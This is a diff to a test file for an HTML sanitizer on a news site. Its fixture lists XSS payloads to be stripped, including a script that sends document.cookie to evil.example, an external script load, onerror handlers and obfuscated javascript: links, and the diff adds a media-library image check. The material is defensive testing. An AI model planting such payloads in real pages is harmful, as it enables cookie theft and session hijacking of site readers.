@@ -9,6 +9,7 @@ HOSTILE = """
 <script>document.location='https://evil.example/?c='+document.cookie</script>
 <SCRIPT src="https://evil.example/x.js"></SCRIPT>
 <img src="https://example.org/a.jpg" alt="Harbour" onerror="alert(1)">
+<img src="/media/pictures/0123456789abcdef0123456789abcdef.jpg" alt="Quay" onerror="alert(1)">
 <a href="javascript:alert(1)">click</a>
 <a href="JaVaScRiPt:alert(2)">again</a>
 <a href=" javascript:alert(3)">spaced</a>
@@ -44,7 +45,11 @@ def test_hostile_markup_does_not_survive():
 def test_news_markup_survives():
     clean = sanitize_body(HOSTILE)
     assert_in_html("<strong>approves</strong>", clean)
-    assert_in_html('<img src="https://example.org/a.jpg" alt="Harbour">', clean)
+    # Only the media library's pictures: another host's would learn who reads the story.
+    assert_in_html(
+        '<img src="/media/pictures/0123456789abcdef0123456789abcdef.jpg" alt="Quay">', clean
+    )
+    assert "example.org/a.jpg" not in clean
     assert_in_html('<a href="https://example.org/report">the report</a>', clean)
     assert_in_html("<h2>Reaction</h2>", clean)
     assert_in_html("<blockquote>We are delighted.</blockquote>", clean)
